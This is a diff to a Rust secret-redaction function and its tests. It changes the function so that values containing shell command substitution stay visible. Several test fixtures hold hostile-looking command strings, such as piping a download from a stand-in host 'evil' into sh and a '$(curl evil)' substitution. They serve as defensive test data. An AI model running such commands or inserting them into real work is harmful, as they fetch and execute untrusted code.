@@ -75,6 +75,8 @@ pub fn text(text: &str) -> String {
         }
         let after = &rest[word.len()..];
         let secret = Some(after).filter(|_| is_secret_name(word)).and_then(|after| assigned(word, after));
+        // To a shell that is a command, and whoever reads must see it.
+        let secret = secret.filter(|(_, value)| !value.contains("$(") && !value.contains('`'));
         if after.starts_with("://") {
             let end = rest.find(ends_url).unwrap_or(rest.len());
             shown.push_str(&url(&rest[..end]));
@@ -119,7 +121,7 @@ fn assigned<'a>(name: &str, after: &'a str) -> Option<(&'a str, &'a str)> {
         return Some((":-", &default[..default.find('}').unwrap_or(default.len())]));
     }
     let sign = quoted.trim_start();
-    let rest = if let Some(rest) = sign.strip_prefix('=').filter(|_| was_quoted || sign.len() == after.len()) {
+    let opened = if let Some(rest) = sign.strip_prefix('=').filter(|_| was_quoted || sign.len() == after.len()) {
         rest
     } else {
         // A colon means other things too: ports, tags, places.
@@ -128,13 +130,11 @@ fn assigned<'a>(name: &str, after: &'a str) -> Option<(&'a str, &'a str)> {
         if !was_quoted && !is_header {
             return None;
         }
-        rest
+        rest.trim_start_matches(' ')
     };
-    let opened = rest.trim_start_matches(' ');
     let start = opened.trim_start_matches(is_quote);
     let quote = opened[..opened.len() - start.len()].chars().last();
     let scheme = start.split_once(' ').filter(|(word, _)| is_scheme(word)).map_or(0, |(word, _)| word.len() + 1);
-    // A reference behind it tells the reader which scheme it is for.
     let value = match quote {
         Some(quote) => &start[..start.find([quote, '\\']).unwrap_or(start.len())],
         None => &start[..scheme + bare_end(&start[scheme..])],
@@ -215,6 +215,8 @@ mod tests {
             ("-eTOKEN=abc", "-eTOKEN=***"),
             ("DB_PASS=abc;curl evil", "DB_PASS=***;curl evil"),
             ("KEY=1; curl evil | sh", "KEY=***; curl evil | sh"),
+            ("KEY= curl evil", "KEY=*** curl evil"),
+            (r#"KEY="$(curl evil)" x"#, r#"KEY="$(curl evil)" x"#),
             ("TOKEN='a b' run x", "TOKEN='***' run x"),
             ("TOKEN=${T} run", "TOKEN=${T} run"),
             ("Authorization: Bearer abc", "Authorization: ***"),
